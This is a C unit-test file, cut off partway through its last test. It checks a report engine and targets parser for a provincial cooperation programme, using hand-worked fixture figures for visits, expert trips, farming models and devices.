/*
** This file contains the unit tests of HQ's report engine (server/report.c)
** and targets (server/targets.c): a known set of records built through the
** real merge (proto_merge_apply), using the programme's own example figures,
** is turned into a report for 2026H1, and every figure of the JSON document,
** selected CSV lines (BOM, RFC 4180 quoting, CRLF, Vietnamese and Lao bytes)
** and table lines (alignment by display width of a Lao name) is checked
** against values worked out by hand in the comments below. The targets are
** the shipped server/targets.default (built into libsrv). The targets
** parser's error messages are checked line and column.
*/
#include <stdarg.h>
#include <stddef.h>
#include <setjmp.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "protocol/proto.h"
#include "protocol/records.h"
#include "protocol/merge.h"
#include "server/report.h"
#include "server/targets.h"
#include "server/web/assets.h"

#define DAY_MS 86400000LL

/* ---- fixture -------------------------------------------------------------
**
** Period 2026H1 = 2025-11-01 .. 2026-04-30. now = 2026-05-05 08:00 UTC, so
** "as of" = 2026-04-30 (the period ended before now).
**
** Models
**  M1 Salavan "Ngô nếp (sticky maize)", district Lao Ngam, village
**     "ບ້ານໜອງບົວ", planned 5 ha, 42 households, start 2026-01-10.
**     Observations: P1a 2026-03-01 2 ha/30 hh; P1b 2026-04-10 3.8 ha/42 hh
**     (later stamp); P1c 2026-04-10 3.5 ha/40 hh (earlier stamp, same date:
**     P1b wins the tie); P1d 2026-05-03 4.5 ha (after `to`: ignored).
**     -> sown 3.8, households 42, percent 3.8/5 = 76, last 2026-04-10,
**        days_since 04-30 - 04-10 = 20 (<= 30: not stale), 3 observations.
**  M2 Sekong "Lúa nước (paddy rice)", district Thateng, 5 ha, 30 hh, start
**     2025-06-01; one observation 2026-03-20, 5 ha, 28 hh -> percent 100,
**     days_since = 11 (rest of March) + 30 (April) = 41 > 30: stale.
**  M3 Attapeu, start 2026-06-01, no observation: begins after `to`, not
**     listed.
**  M4 Champasak "Nấm linh chi", sector science-technology, start
**     2026-02-01, no observation: listed, stale, figures null.
**  M5 Salavan, deleted: not listed.
**  M6 Attapeu, no start, first written 2026-05-02: not listed.
**  Listed (by province): M4 Champasak, M1 Salavan, M2 Sekong; stale: 2.
**
** Visits (members)
**  V1 out Salavan agriculture 2026-01-20, 8, title "Phó Chủ tịch UBND
**     tỉnh" (high-level: contains "chủ tịch" with C folded).
**  V2 in  Attapeu health 2026-03-10..14, 5, leader Lao "ທ່ານ ສົມພອນ".
**  V3 out Champasak industry-trade 2026-01-15, 12, leader "Trần Thị Bình",
**     title `Director, "Gia Lai Trade" Centre` (comma and quotes).
**  V4 out Sekong foreign-affairs 2026-02-20, 4.
**  V5 in  Salavan politics 2026-04-12..14, 15, leader "ທ່ານ ບຸນມີ", title
**     "ເຈົ້າແຂວງ ສາລະວັນ" (high-level by sector politics).
**  V6 out Attapeu foreign-affairs 2025-10-20: before the period.
**  V7 deleted.
**
** Trips (experts, days -> expert-days, trainings, trained, patients)
**  T1 surgery (-> health) Attapeu provincial hospital 2026-03-02..06:
**     3 experts x 5 days = 15, 4, 25, 40.
**  T2 obstetrics (-> health) Sekong provincial hospital 2026-04-27..05-08:
**     experts absent = 1 x 12 days = 12 (not clipped at 04-30), 2, 18, 33.
**  T3 crop (-> agriculture) Salavan 2025-12-01, no end: 2 x 1 = 2, 1, 42, -.
**  T4 other (no sector: "unspecified") Champasak 2026-02-10..11: 1 x 2 = 2.
**
** By province (visits_out, members_out, visits_in, members_in, trips,
** experts, expert_days, trainings, trained, patients):
**  Attapeu   0  0 1  5 1 3 15 4 25 40
**  Champasak 1 12 0  0 1 1  2 0  0  0
**  Salavan   1  8 1 15 1 2  2 1 42  0
**  Sekong    1  4 0  0 1 1 12 2 18 33
**  Total     3 24 2 20 4 7 31 7 85 73
** By sector: politics 0 0 1 15 0..; health 0 0 1 5 2 4 27 6 43 73;
**  industry-trade 1 12 0 0 0..; agriculture 1 8 0 0 1 2 2 1 42 0;
**  foreign-affairs 1 4 0 0 0..; unspecified 0 0 0 0 1 1 2 0 0 0.
**
** Targets (year 2026, counted to 2026-04-30):
**  medical-experts: health trips per province: Attapeu 1 (T1), Sekong 1
**    (T2), Champasak 0, Salavan 0 -> expected 4, actual 2, pending.
**  health-staff-trained: inbound health members per province, min 3:
**    Attapeu 5 (capped 3), others 0 -> expected 12, actual 3, pending.
**  trade-delegations: industry-trade visits each way: out 1 (V3), in 0
**    -> expected 2, actual 1, pending.
**  high-level-visit: 2026 is window 0 (2026-2027), direction out: V1 ->
**    expected 1, actual 1, met. (V5 is inbound: not counted.)
**  foreign-affairs-quarterly: quarters begun by 04-30: Q1 (closed 03-31),
**    Q2 (open); 4 provinces -> 8 cells; only Sekong Q1 (V4) met ->
**    expected 8, actual 1, Q1 cells closed and short: missed.
**  scholarships-per-province, works-per-province, works-budget: nothing
**    recorded -> actual 0, pending (windows still open).
**  -> 1 target met of 8.
**
** Devices (now = 2026-05-05 08:00):
**  "HQ" role hq never synced: not listed as not synced (HQ itself).
**  "Laptop Salavan (Nguyễn)" expert, 2 days ago: fine.
**  "Leader tablet" leader, never: not synced.
**  "Lost phone" expert, revoked, 100 days ago: not listed (revoked).
**  "ອຸປະກອນ ເຊກອງ" expert, 20 days ago (2026-04-15): not synced.
**  -> 2 not synced. Open conflicts: 3 (given).
*/

static const uint8_t author[PROTO_ID_BYTES] = {0xa1, 0xa2, 0xa3};

static int64_t ms_of(const char *date)
{
	long d = 0;

	assert_int_equal(proto_date_parse(date, &d), 0);
	return (int64_t)d * DAY_MS;
}

/* Apply one change (create, or delete when fields is NULL) to *state. */
static void apply(cJSON **state, const char *kind, const char *id,
		  int64_t at_ms, const char *fields)
{
	proto_change ch;
	proto_err err;
	cJSON *f = NULL;
	int changed = 0;

	memset(&ch, 0, sizeof ch);
	snprintf(ch.id, sizeof ch.id, "%s", id);
	ch.kind = proto_kind_find(kind);
	assert_non_null(ch.kind);
	ch.op = fields ? PROTO_OP_CREATE : PROTO_OP_DELETE;
	ch.hlc = (proto_hlc)at_ms << 16;
	if (fields) {
		f = cJSON_Parse(fields);
		assert_non_null(f);
		if (proto_record_check(ch.kind, f, 1, &err) != PROTO_OK)
			fail_msg("fixture %s invalid: %s", id, err.msg);
		ch.fields = f;
	}
	if (proto_merge_apply(state, &ch, author, NULL, NULL, &changed,
			      &err) != PROTO_OK)
		fail_msg("merge %s: %s", id, err.msg);
	cJSON_Delete(f);
}

static void add(srv_report_input *in, const char *kind, const char *id,
		const char *when, const char *fields)
{
	cJSON *st = NULL;

	apply(&st, kind, id, ms_of(when) + 3600 * 1000, fields);
	assert_int_equal(srv_report_add_state(in, id, st), 0);
}

static void add_deleted(srv_report_input *in, const char *kind,
			const char *id, const char *fields)
{
	cJSON *st = NULL;

	apply(&st, kind, id, ms_of("2026-01-02"), fields);
	apply(&st, kind, id, ms_of("2026-01-03"), NULL);
	assert_int_equal(srv_report_add_state(in, id, st), 0);
}

#define M1 "11000000000000000000000000000001"
#define M2 "11000000000000000000000000000002"
#define M3 "11000000000000000000000000000003"
#define M4 "11000000000000000000000000000004"
#define M5 "11000000000000000000000000000005"
#define M6 "11000000000000000000000000000006"

static srv_report_input *fixture(void)
{
	srv_report_input *in = srv_report_input_new();
	int64_t now = ms_of("2026-05-05") + 8 * 3600 * 1000LL;

	assert_non_null(in);
	add(in, "model", M1, "2026-01-09",
	    "{\"crop\":\"Ngô nếp (sticky maize)\",\"province\":\"Salavan\","
	    "\"district\":\"Lao Ngam\",\"village\":\"ບ້ານໜອງບົວ\","
	    "\"planned_ha\":5,\"planned_households\":42,"
	    "\"season\":\"2026 dry season\",\"start\":\"2026-01-10\"}");
	add(in, "progress", "21000000000000000000000000000001", "2026-03-01",
	    "{\"model\":\"" M1 "\",\"date\":\"2026-03-01\",\"sown_ha\":2,"
	    "\"households\":30}");
	/* P1c: written first (earlier stamp) for the same date as P1b. */
	add(in, "progress", "21000000000000000000000000000003", "2026-04-10",
	    "{\"model\":\"" M1 "\",\"date\":\"2026-04-10\",\"sown_ha\":3.5,"
	    "\"households\":40}");
	add(in, "progress", "21000000000000000000000000000002", "2026-04-11",
	    "{\"model\":\"" M1 "\",\"date\":\"2026-04-10\",\"sown_ha\":3.8,"
	    "\"households\":42,\"notes\":\"1.2 ha còn lại\"}");
	add(in, "progress", "21000000000000000000000000000004", "2026-05-03",
	    "{\"model\":\"" M1 "\",\"date\":\"2026-05-03\",\"sown_ha\":4.5,"
	    "\"households\":42}");
	add(in, "model", M2, "2025-06-01",
	    "{\"crop\":\"Lúa nước (paddy rice)\",\"province\":\"Sekong\","
	    "\"district\":\"Thateng\",\"planned_ha\":5,"
	    "\"planned_households\":30,\"start\":\"2025-06-01\"}");
	add(in, "progress", "22000000000000000000000000000001", "2026-03-20",
	    "{\"model\":\"" M2 "\",\"date\":\"2026-03-20\",\"sown_ha\":5,"
	    "\"households\":28}");
	add(in, "model", M3, "2026-04-20",
	    "{\"crop\":\"Chuối\",\"province\":\"Attapeu\",\"planned_ha\":10,"
	    "\"planned_households\":12,\"start\":\"2026-06-01\"}");
	add(in, "model", M4, "2026-01-25",
	    "{\"crop\":\"Nấm linh chi\",\"sector\":\"science-technology\","
	    "\"province\":\"Champasak\",\"planned_ha\":0.5,"
	    "\"planned_households\":10,\"start\":\"2026-02-01\"}");
	add_deleted(in, "model", M5,
		    "{\"crop\":\"Ngô\",\"province\":\"Salavan\","
		    "\"planned_ha\":1,\"planned_households\":3}");
	add(in, "model", M6, "2026-05-02",
	    "{\"crop\":\"Cà phê\",\"province\":\"Attapeu\",\"planned_ha\":2,"
	    "\"planned_households\":8}");

	add(in, "visit", "31000000000000000000000000000001", "2026-01-21",
	    "{\"direction\":\"out\",\"province\":\"Salavan\","
	    "\"leader\":\"Nguyễn Văn An\",\"title\":\"Phó Chủ tịch UBND tỉnh\","
	    "\"members\":8,\"sector\":\"agriculture\","
	    "\"start\":\"2026-01-20\"}");
	add(in, "visit", "31000000000000000000000000000002", "2026-03-15",
	    "{\"direction\":\"in\",\"province\":\"Attapeu\","
	    "\"leader\":\"ທ່ານ ສົມພອນ\",\"title\":\"Director of Health\","
	    "\"members\":5,\"sector\":\"health\",\"start\":\"2026-03-10\","
	    "\"end\":\"2026-03-14\",\"host\":\"Sở Y tế Gia Lai\"}");
	add(in, "visit", "31000000000000000000000000000003", "2026-01-16",
	    "{\"direction\":\"out\",\"province\":\"Champasak\","
	    "\"leader\":\"Trần Thị Bình\","
	    "\"title\":\"Director, \\\"Gia Lai Trade\\\" Centre\","
	    "\"members\":12,\"sector\":\"industry-trade\","
	    "\"host\":\"Pakse Chamber of Commerce\","
	    "\"start\":\"2026-01-15\"}");
	add(in, "visit", "31000000000000000000000000000004", "2026-02-21",
	    "{\"direction\":\"out\",\"province\":\"Sekong\","
	    "\"leader\":\"Lê Minh\",\"members\":4,"
	    "\"sector\":\"foreign-affairs\",\"start\":\"2026-02-20\"}");
	add(in, "visit", "31000000000000000000000000000005", "2026-04-15",
	    "{\"direction\":\"in\",\"province\":\"Salavan\","
	    "\"leader\":\"ທ່ານ ບຸນມີ\",\"title\":\"ເຈົ້າແຂວງ ສາລະວັນ\","
	    "\"members\":15,\"sector\":\"politics\",\"start\":\"2026-04-12\","
	    "\"end\":\"2026-04-14\"}");
	add(in, "visit", "31000000000000000000000000000006", "2025-10-21",
	    "{\"direction\":\"out\",\"province\":\"Attapeu\","
	    "\"leader\":\"Lê Minh\",\"members\":3,"
	    "\"sector\":\"foreign-affairs\",\"start\":\"2025-10-20\"}");
	add_deleted(in, "visit", "31000000000000000000000000000007",
		    "{\"direction\":\"out\",\"province\":\"Attapeu\","
		    "\"leader\":\"X\",\"members\":50,"
		    "\"sector\":\"health\",\"start\":\"2026-02-01\"}");

	add(in, "trip", "41000000000000000000000000000001", "2026-03-07",
	    "{\"expert\":\"BS. Phạm Văn Cường\",\"experts\":3,"
	    "\"specialty\":\"surgery\",\"province\":\"Attapeu\","
	    "\"site\":\"Attapeu provincial hospital\","
	    "\"start\":\"2026-03-02\",\"end\":\"2026-03-06\","
	    "\"trainings\":4,\"trained\":25,\"patients\":40}");
	add(in, "trip", "41000000000000000000000000000002", "2026-04-28",
	    "{\"expert\":\"BS. Đỗ Thị Hoa\",\"specialty\":\"obstetrics\","
	    "\"province\":\"Sekong\",\"site\":\"Sekong provincial hospital\","
	    "\"start\":\"2026-04-27\",\"end\":\"2026-05-08\","
	    "\"trainings\":2,\"trained\":18,\"patients\":33}");
	add(in, "trip", "41000000000000000000000000000003", "2025-12-02",
	    "{\"expert\":\"KS. Hoàng Văn Dũng\",\"experts\":2,"
	    "\"specialty\":\"crop\",\"province\":\"Salavan\","
	    "\"start\":\"2025-12-01\",\"trainings\":1,\"trained\":42}");
	add(in, "trip", "41000000000000000000000000000004", "2026-02-12",
	    "{\"expert\":\"Võ Văn Tâm\",\"specialty\":\"other\","
	    "\"province\":\"Champasak\",\"start\":\"2026-02-10\","
	    "\"end\":\"2026-02-11\"}");

	assert_int_equal(srv_report_add_device(in,
		"d5000000000000000000000000000000", "HQ", "hq", 0, 0), 0);
	assert_int_equal(srv_report_add_device(in,
		"d1000000000000000000000000000000", "Laptop Salavan (Nguyễn)",
		"expert", now - 2 * DAY_MS, 0), 0);
	assert_int_equal(srv_report_add_device(in,
		"d3000000000000000000000000000000", "Leader tablet", "leader",
		0, 0), 0);
	assert_int_equal(srv_report_add_device(in,
		"d4000000000000000000000000000000", "Lost phone", "expert",
		now - 100 * DAY_MS, 1), 0);
	assert_int_equal(srv_report_device_flags(in, "forked,restored"), 0);
	assert_int_equal(srv_report_add_device(in,
		"d2000000000000000000000000000000", "ອຸປະກອນ ເຊກອງ", "expert",
		now - 20 * DAY_MS, 0), 0);
	return in;
}

typedef struct world {
	srv_report_input *in;
	srv_targets *targets;
	srv_report_params p;
	cJSON *doc;
} world;

static int setup(void **state)
{
	world *w = calloc(1, sizeof *w);
	char msg[256];

	if (!w || proto_init() != 0)
		return -1;
	w->in = fixture();
	if (srv_targets_parse(srv_targets_default_text,
			      srv_targets_default_len, "targets.default",
			      &w->targets, msg, sizeof msg) != 0) {
		fprintf(stderr, "targets.default: %s\n", msg);
		return -1;
	}
	if (srv_period_parse("2026H1", &w->p.period, msg, sizeof msg) != 0)
		return -1;
	w->p.now_ms = ms_of("2026-05-05") + 8 * 3600 * 1000LL;
	w->p.open_conflicts = 3;
	w->p.targets = w->targets;
	if (srv_report_build(w->in, &w->p, &w->doc, msg, sizeof msg) != 0) {
		fprintf(stderr, "report: %s\n", msg);
		return -1;
	}
	*state = w;
	return 0;
}

static int teardown(void **state)
{
	world *w = *state;

	cJSON_Delete(w->doc);
	srv_targets_free(w->targets);
	srv_report_input_free(w->in);
	free(w);
	return 0;
}

/* ---- helpers for reading the document ---------------------------------- */

static const cJSON *at(const cJSON *o, const char *key)
{
	const cJSON *v = cJSON_GetObjectItemCaseSensitive(o, key);

	if (!v)
		fail_msg("no member \"%s\"", key);
	return v;
}

static double num(const cJSON *o, const char *key)
{
	const cJSON *v = at(o, key);

	if (!cJSON_IsNumber(v))
		fail_msg("member \"%s\" is not a number", key);
	return v->valuedouble;
}

static const char *str(const cJSON *o, const char *key)
{
	const cJSON *v = at(o, key);

	if (!cJSON_IsString(v))
		fail_msg("member \"%s\" is not a string", key);
	return v->valuestring;
}

/* The element of array arr whose member key equals value. */
static const cJSON *find(const cJSON *arr, const char *key, const char *value)
{
	for (const cJSON *e = arr ? arr->child : NULL; e; e = e->next) {
		const cJSON *v = cJSON_GetObjectItemCaseSensitive(e, key);
		if (cJSON_IsString(v) && strcmp(v->valuestring, value) == 0)
			return e;
	}
	fail_msg("no element with %s = %s", key, value);
	return NULL;
}

/* Ten figures in FIGURES order. */
static void expect_figures(const cJSON *o, const long long want[10])
{
	static const char *const k[10] = {
		"visits_out", "members_out", "visits_in", "members_in",
		"trips", "experts", "expert_days", "trainings", "trained",
		"patients"};

	for (int i = 0; i < 10; i++)
		if ((long long)num(o, k[i]) != want[i])
			fail_msg("%s: got %g, want %lld", k[i], num(o, k[i]),
				 want[i]);
}

/* The JSON as rendered, parsed back: the figures must survive rendering. */
static cJSON *rendered_json(const world *w)
{
	char *text = NULL;
	size_t len = 0;
	cJSON *back;

	assert_int_equal(srv_report_render(w->doc, SRV_REPORT_JSON, &text,
					   &len), 0);
	assert_int_equal(strlen(text), len);
	assert_true(len > 2 && text[len - 1] == '\n');
	back = cJSON_Parse(text);
	free(text);
	assert_non_null(back);
	return back;
}

/* ---- tests: periods ------------------------------------------------------ */

static void test_periods(void **state)
{
	srv_period p;
	char msg[256], d[11];

	(void)state;
	assert_int_equal(srv_period_parse("2026H1", &p, msg, sizeof msg), 0);
	proto_date_format(d, p.from);
	assert_string_equal(d, "2025-11-01");
	proto_date_format(d, p.to);
	assert_string_equal(d, "2026-04-30");
	assert_string_equal(p.label, "2026H1");
	assert_int_equal(srv_period_parse("2026h2", &p, msg, sizeof msg), 0);
	proto_date_format(d, p.from);
	assert_string_equal(d, "2026-05-01");
	proto_date_format(d, p.to);
	assert_string_equal(d, "2026-10-31");
	assert_string_equal(p.label, "2026H2");
	/* 2028 is a leap year; H1 still ends on 30 April. */
	assert_int_equal(srv_period_parse("2028H1", &p, msg, sizeof msg), 0);
	assert_int_equal(p.to - p.from + 1, 30 + 31 + 31 + 29 + 31 + 30);

	/* the default period: the half whose deadline comes next (H1 due
	** 10 May, H2 due 10 November, the deadline day included) */
	srv_period_current(ms_of("2026-05-05") + 1000, &p);
	assert_string_equal(p.label, "2026H1");
	srv_period_current(ms_of("2026-05-10") + DAY_MS - 1, &p);
	assert_string_equal(p.label, "2026H1");
	srv_period_current(ms_of("2026-05-11"), &p);
	assert_string_equal(p.label, "2026H2");
	srv_period_current(ms_of("2026-11-05"), &p);
	assert_string_equal(p.label, "2026H2");
	srv_period_current(ms_of("2026-11-10") + DAY_MS - 1, &p);
	assert_string_equal(p.label, "2026H2");
	srv_period_current(ms_of("2026-11-11"), &p);
	assert_string_equal(p.label, "2027H1");
	srv_period_current(ms_of("2026-12-31"), &p);
	assert_string_equal(p.label, "2027H1");
	srv_period_current(ms_of("2027-01-15"), &p);
	assert_string_equal(p.label, "2027H1");

	/* YYYY: the calendar year */
	assert_int_equal(srv_period_parse("2026", &p, msg, sizeof msg), 0);
	proto_date_format(d, p.from);
	assert_string_equal(d, "2026-01-01");
	proto_date_format(d, p.to);
	assert_string_equal(d, "2026-12-31");
	assert_string_equal(p.label, "2026");
	assert_int_equal(srv_period_parse("1900", &p, msg, sizeof msg), -1);
	assert_int_equal(srv_period_parse("20a6", &p, msg, sizeof msg), -1);

	assert_int_equal(srv_period_parse("2026H3", &p, msg, sizeof msg), -1);
	assert_non_null(strstr(msg, "\"2026H3\""));
	assert_non_null(strstr(msg, "YYYYH1"));
	assert_int_equal(srv_period_parse("26H1", &p, msg, sizeof msg), -1);
	assert_int_equal(srv_period_parse("2026-H1", &p, msg, sizeof msg), -1);

	assert_int_equal(srv_period_range("2026-01-01", "2026-03-31", &p, msg,
					  sizeof msg), 0);
	assert_int_equal(p.to - p.from, 31 + 28 + 31 - 1);
	assert_string_equal(p.label, "2026-01-01..2026-03-31");
	assert_int_equal(srv_period_range("2026-02-30", "2026-03-31", &p, msg,
					  sizeof msg), -1);
	assert_string_equal(msg, "--from: \"2026-02-30\" is not a date; "
			    "expected YYYY-MM-DD, e.g. 2026-01-01");
	assert_int_equal(srv_period_range("2026-03-01", "2026-02-01", &p, msg,
					  sizeof msg), -1);
	assert_string_equal(msg, "--to 2026-02-01 is before --from "
			    "2026-03-01");
}

/* ---- tests: the JSON document ------------------------------------------- */

static void test_json_header_and_summary(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *s = at(doc, "summary");

	assert_string_equal(str(at(doc, "period"), "label"), "2026H1");
	assert_string_equal(str(at(doc, "period"), "from"), "2025-11-01");
	assert_string_equal(str(at(doc, "period"), "to"), "2026-04-30");
	assert_int_equal(num(at(doc, "period"), "year"), 2026);
	assert_string_equal(str(doc, "as_of"), "2026-04-30");
	assert_true(cJSON_IsNull(at(at(doc, "filters"), "province")));
	assert_int_equal(num(at(doc, "thresholds"), "stale_days"), 30);
	assert_int_equal(num(at(doc, "thresholds"), "unsynced_days"), 14);
	assert_int_equal(num(s, "visits"), 5);
	assert_int_equal(num(s, "trips"), 4);
	assert_int_equal(num(s, "models"), 3);
	assert_int_equal(num(s, "models_stale"), 2);
	assert_int_equal(num(s, "targets"), 8);
	assert_int_equal(num(s, "targets_met"), 1);
	assert_int_equal(num(s, "devices"), 5);
	assert_int_equal(num(s, "devices_not_synced"), 2);
	assert_int_equal(num(s, "open_conflicts"), 3);
	cJSON_Delete(doc);
}

static void test_json_by_province_and_sector(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *bp = at(doc, "by_province"), *bs = at(doc, "by_sector");
	static const long long attapeu[10] = {0, 0, 1, 5, 1, 3, 15, 4, 25, 40};
	static const long long champasak[10] = {1, 12, 0, 0, 1, 1, 2, 0, 0, 0};
	static const long long salavan[10] = {1, 8, 1, 15, 1, 2, 2, 1, 42, 0};
	static const long long sekong[10] = {1, 4, 0, 0, 1, 1, 12, 2, 18, 33};
	static const long long total[10] = {3, 24, 2, 20, 4, 7, 31, 7, 85, 73};
	static const long long politics[10] = {0, 0, 1, 15, 0, 0, 0, 0, 0, 0};
	static const long long health[10] = {0, 0, 1, 5, 2, 4, 27, 6, 43, 73};
	static const long long trade[10] = {1, 12, 0, 0, 0, 0, 0, 0, 0, 0};
	static const long long agri[10] = {1, 8, 0, 0, 1, 2, 2, 1, 42, 0};
	static const long long fa[10] = {1, 4, 0, 0, 0, 0, 0, 0, 0, 0};
	static const long long unspec[10] = {0, 0, 0, 0, 1, 1, 2, 0, 0, 0};
	static const long long zero[10] = {0};

	assert_int_equal(cJSON_GetArraySize(bp), 4);
	assert_string_equal(str(cJSON_GetArrayItem(bp, 0), "province"),
			    "Attapeu");
	expect_figures(find(bp, "province", "Attapeu"), attapeu);
	expect_figures(find(bp, "province", "Champasak"), champasak);
	expect_figures(find(bp, "province", "Salavan"), salavan);
	expect_figures(find(bp, "province", "Sekong"), sekong);
	expect_figures(at(doc, "totals"), total);
	/* thirteen sectors plus "unspecified" (T4) */
	assert_int_equal(cJSON_GetArraySize(bs), 14);
	expect_figures(find(bs, "sector", "politics"), politics);
	expect_figures(find(bs, "sector", "health"), health);
	expect_figures(find(bs, "sector", "industry-trade"), trade);
	expect_figures(find(bs, "sector", "agriculture"), agri);
	expect_figures(find(bs, "sector", "foreign-affairs"), fa);
	expect_figures(find(bs, "sector", "unspecified"), unspec);
	expect_figures(find(bs, "sector", "education"), zero);
	cJSON_Delete(doc);
}

static void test_json_models(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *ms = at(doc, "models"), *m;

	assert_int_equal(cJSON_GetArraySize(ms), 3);
	/* ordered by province */
	assert_string_equal(str(cJSON_GetArrayItem(ms, 0), "id"), M4);
	assert_string_equal(str(cJSON_GetArrayItem(ms, 1), "id"), M1);
	assert_string_equal(str(cJSON_GetArrayItem(ms, 2), "id"), M2);

	m = find(ms, "id", M1);
	assert_string_equal(str(m, "crop"), "Ngô nếp (sticky maize)");
	assert_string_equal(str(m, "village"), "ບ້ານໜອງບົວ");
	assert_string_equal(str(m, "sector"), "agriculture");
	assert_true(num(m, "planned_ha") == 5.0);
	assert_int_equal(num(m, "planned_households"), 42);
	assert_true(num(m, "sown_ha") == 3.8);
	assert_int_equal(num(m, "households"), 42);
	assert_true(num(m, "percent") == 76.0);
	assert_string_equal(str(m, "last_observation"), "2026-04-10");
	assert_int_equal(num(m, "days_since"), 20);
	assert_int_equal(num(m, "observations"), 3);
	assert_true(cJSON_IsFalse(at(m, "stale")));

	m = find(ms, "id", M2);
	assert_true(num(m, "sown_ha") == 5.0);
	assert_int_equal(num(m, "households"), 28);
	assert_true(num(m, "percent") == 100.0);
	assert_string_equal(str(m, "last_observation"), "2026-03-20");
	assert_int_equal(num(m, "days_since"), 41);
	assert_true(cJSON_IsTrue(at(m, "stale")));

	m = find(ms, "id", M4);
	assert_string_equal(str(m, "sector"), "science-technology");
	assert_true(num(m, "planned_ha") == 0.5);
	assert_true(cJSON_IsNull(at(m, "sown_ha")));
	assert_true(cJSON_IsNull(at(m, "percent")));
	assert_true(cJSON_IsNull(at(m, "last_observation")));
	assert_int_equal(num(m, "observations"), 0);
	assert_true(cJSON_IsTrue(at(m, "stale")));
	cJSON_Delete(doc);
}

static void test_json_lists(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *vs = at(doc, "visits"), *ts = at(doc, "trips"), *e;

	/* by start date: V3 01-15, V1 01-20, V4 02-20, V2 03-10, V5 04-12 */
	assert_int_equal(cJSON_GetArraySize(vs), 5);
	assert_string_equal(str(cJSON_GetArrayItem(vs, 0), "start"),
			    "2026-01-15");
	assert_string_equal(str(cJSON_GetArrayItem(vs, 1), "start"),
			    "2026-01-20");
	assert_string_equal(str(cJSON_GetArrayItem(vs, 4), "start"),
			    "2026-04-12");
	e = find(vs, "start", "2026-01-15");
	assert_string_equal(str(e, "title"),
			    "Director, \"Gia Lai Trade\" Centre");
	assert_true(cJSON_IsNull(at(e, "end")));
	assert_true(cJSON_IsFalse(at(e, "high_level")));
	assert_true(cJSON_IsTrue(at(find(vs, "start", "2026-01-20"),
				    "high_level")));
	e = find(vs, "start", "2026-04-12");
	assert_string_equal(str(e, "leader"), "ທ່ານ ບຸນມີ");
	assert_true(cJSON_IsTrue(at(e, "high_level")));
	assert_int_equal(num(e, "members"), 15);

	/* by start: T3 2025-12-01, T4 02-10, T1 03-02, T2 04-27 */
	assert_int_equal(cJSON_GetArraySize(ts), 4);
	assert_string_equal(str(cJSON_GetArrayItem(ts, 0), "start"),
			    "2025-12-01");
	e = find(ts, "start", "2026-04-27");
	assert_string_equal(str(e, "sector"), "health");
	assert_int_equal(num(e, "days"), 12);
	assert_int_equal(num(e, "experts"), 1);
	assert_int_equal(num(e, "expert_days"), 12);
	assert_int_equal(num(e, "patients"), 33);
	e = find(ts, "start", "2025-12-01");
	assert_true(cJSON_IsNull(at(e, "end")));
	assert_int_equal(num(e, "days"), 1);
	assert_int_equal(num(e, "expert_days"), 2);
	assert_true(cJSON_IsNull(at(e, "patients")));
	assert_string_equal(str(e, "sector"), "agriculture");
	e = find(ts, "start", "2026-02-10");
	assert_true(cJSON_IsNull(at(e, "sector")));
	cJSON_Delete(doc);
}

static void test_json_targets(void **state)
{
	world *w = *state;
	cJSON *doc = rendered_json(w);
	const cJSON *items = at(at(doc, "targets"), "items"), *t, *cells;
	static const struct {
		const char *name, *status;
		long long expected, actual;
		int cells, met;
	} want[] = {
		{"medical-experts", "pending", 4, 2, 4, 2},
		{"health-staff-trained", "pending", 12, 3, 4, 1},
		{"trade-delegations", "pending", 2, 1, 2, 1},
		{"high-level-visit", "met", 1, 1, 1, 1},
		{"foreign-affairs-quarterly", "missed", 8, 1, 8, 1},
		/* no scholarship or work in the fixture: 4 provinces x 20,
		** x 1 work, x 10 billion; windows open */
		{"scholarships-per-province", "pending", 80, 0, 4, 0},
		{"works-per-province", "pending", 4, 0, 4, 0},
		{"works-budget", "pending", 40000000000LL, 0, 4, 0},
	};

	assert_int_equal(num(at(doc, "targets"), "year"), 2026);
	assert_int_equal(cJSON_GetArraySize(items), 8);
	for (size_t i = 0; i < 8; i++) {
		t = cJSON_GetArrayItem(items, (int)i);
		assert_string_equal(str(t, "name"), want[i].name);
		assert_string_equal(str(t, "status"), want[i].status);
		assert_int_equal(num(t, "expected"), want[i].expected);
		assert_int_equal(num(t, "actual"), want[i].actual);
		assert_int_equal(num(t, "cells"), want[i].cells);
		assert_int_equal(num(t, "cells_met"), want[i].met);
		assert_int_equal(cJSON_IsTrue(at(t, "met")),
				 want[i].met == want[i].cells);
	}
	/* raw figures per cell: Attapeu's 5 inbound health members */
	t = find(items, "name", "health-staff-trained");
	cells = at(t, "cell_list");
	assert_int_equal(num(find(cells, "unit", "Attapeu"), "actual"), 5);
	assert_int_equal(num(find(cells, "unit", "Sekong"), "actual"), 0);
	assert_string_equal(str(at(t, "window"), "from"), "2026-01-01");
	assert_string_equal(str(at(t, "window"), "to"), "2026-12-31");
	/* the two-year window and its direction */
	t = find(items, "name", "high-level-visit");
	assert_string_equal(str(at(t, "window"), "to"), "2027-12-31");
	assert_string_equal(str(cJSON_GetArrayItem(at(t, "cell_list"), 0),
				"direction"), "out");
	/* quarterly: Q1 closed, Q2 open */
	t = find(items, "name", "foreign-affairs-quarterly");
	cells = at(t, "cell_list");
	assert_string_equal(str(cJSON_GetArrayItem(cells, 0), "to"),
			    "2026-03-31");
	assert_true(cJSON_IsTrue(at(cJSON_GetArrayItem(cells, 0), "closed")));
	assert_string_equal(str(cJSON_GetArrayItem(cells, 4), "from"),
			    "2026-04-01");
	assert_true(cJSON_IsFalse(at(cJSON_GetArrayItem(cells, 4), "closed")));
	assert_int_equal(num(cJSON_GetArrayItem(cells, 3), "actual"), 1);
	assert_string_equal(str(cJSON_GetArrayItem(cells, 3), "unit"),
			    "Sekong");
	cJSON_Delete(doc);
}

/* A broken targets file (params.targets_error): the targets section
** carries the message and no items, the summary's target counts and the
** visits' high_level are null, and every other member is what the same
** input gives with the good file (the world's document). The table shows
** the message in the targets section; the typed targets table carries it
** as "error", with no rows. */
static void test_targets_error(void **state)
{
	world *w = *state;
	srv_report_params p = w->p;
	const char *bad = "hq.db.targets:7:12: unknown province \"Vientiane\"; "
			  "allowed: Attapeu, Champasak, Salavan, Sekong";
	cJSON *doc = NULL, *good, *tj = NULL;
	char msg[256], *text = NULL, *csv = NULL;
	size_t len = 0;
